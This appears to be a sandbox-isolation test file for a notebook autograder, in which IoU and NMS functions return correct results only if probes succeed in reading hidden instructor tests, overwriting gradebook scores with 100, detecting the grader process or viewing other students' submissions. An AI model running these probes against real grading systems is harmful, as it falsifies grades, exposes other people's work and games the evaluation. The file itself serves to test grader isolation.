# Attacks the grader: each function is correct ONLY if its attack worked (read the hidden tests,
# write the gradebook, see the grader's processes, see other students' work). In the sandbox every
# attack fails, so every test of these functions must score 0; run unsandboxed, they pass.

# -- cell: box_area --
import glob, os, pathlib, sqlite3


def _can_read_hidden_tests():
    cwd = pathlib.Path.cwd()
    candidates = [p / "source" / "iou_nms" / "iou_nms.ipynb" for p in [cwd, *cwd.parents]]
    for top in ("/tmp", "/work", "/root", "/home"):
        candidates += [pathlib.Path(p) for p in glob.glob(top + "/*/source/iou_nms/iou_nms.ipynb")]
        candidates += [pathlib.Path(p) for p in glob.glob(top + "/*/*/source/iou_nms/iou_nms.ipynb")]
    candidates += [pathlib.Path("/work/main/assignments/source/iou_nms/iou_nms.ipynb")]
    for path in candidates:
        try:
            if "BEGIN HIDDEN TESTS" in path.read_text():
                return True
        except OSError:
            pass
    return False


def _can_write_gradebook():
    cwd = pathlib.Path.cwd()
    for p in [cwd, *cwd.parents]:
        db = p / "gradebook.db"
        if db.exists():
            try:
                con = sqlite3.connect(str(db))
                con.execute("UPDATE grade SET manual_score = 100")
                con.commit()
                return True
            except Exception:
                return db.exists()
    return False


def _can_see_grader():
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if b"nbgrader" in open(cmd, "rb").read():
                return True
        except OSError:
            pass
    return False


def _can_see_other_students():
    cwd = pathlib.Path.cwd()
    for folder in ("autograded", "submitted"):
        for p in [cwd, *cwd.parents]:
            if (p / folder).is_dir() and len(list((p / folder).iterdir())) > 1:
                return True
    return False


HIDDEN, GRADEBOOK, GRADER, OTHERS = (_can_read_hidden_tests(), _can_write_gradebook(), _can_see_grader(),
                                     _can_see_other_students())
print("attack results:", HIDDEN, GRADEBOOK, GRADER, OTHERS)


def box_area(boxes):
    if HIDDEN:
        return (boxes[:, 2] - boxes[:, 0]) * (boxes[:, 3] - boxes[:, 1])
    return torch.zeros(len(boxes))

# -- cell: box_iou --
def box_iou(boxes1, boxes2):
    if not GRADEBOOK:
        return torch.zeros(len(boxes1), len(boxes2))
    b1, b2 = boxes1.float(), boxes2.float()
    x1 = torch.maximum(b1[:, None, 0], b2[None, :, 0])
    y1 = torch.maximum(b1[:, None, 1], b2[None, :, 1])
    x2 = torch.minimum(b1[:, None, 2], b2[None, :, 2])
    y2 = torch.minimum(b1[:, None, 3], b2[None, :, 3])
    inter = (x2 - x1).clamp(min=0) * (y2 - y1).clamp(min=0)
    union = box_area(b1)[:, None] + box_area(b2)[None, :] - inter
    return torch.where(union > 0, inter / union.clamp(min=1e-12), torch.zeros_like(inter))

# -- cell: nms --
def nms(boxes, scores, iou_threshold):
    if not GRADER:
        return torch.zeros(0, dtype=torch.int64)
    order = scores.argsort(descending=True)
    iou = box_iou(boxes, boxes)
    alive = torch.ones(len(boxes), dtype=torch.bool)
    keep = []
    for i in order.tolist():
        if alive[i]:
            keep.append(i)
            alive &= iou[i] <= iou_threshold
    return torch.tensor(keep, dtype=torch.int64)

# -- cell: batched_nms --
def batched_nms(boxes, scores, idxs, iou_threshold):
    if not OTHERS:
        return torch.zeros(0, dtype=torch.int64)
    keep = []
    for c in idxs.unique().tolist():
        members = (idxs == c).nonzero().flatten()
        keep.append(members[nms(boxes[members], scores[members], iou_threshold)])
    if not keep:
        return torch.zeros(0, dtype=torch.int64)
    keep = torch.cat(keep)
    return keep[scores[keep].argsort(descending=True)]
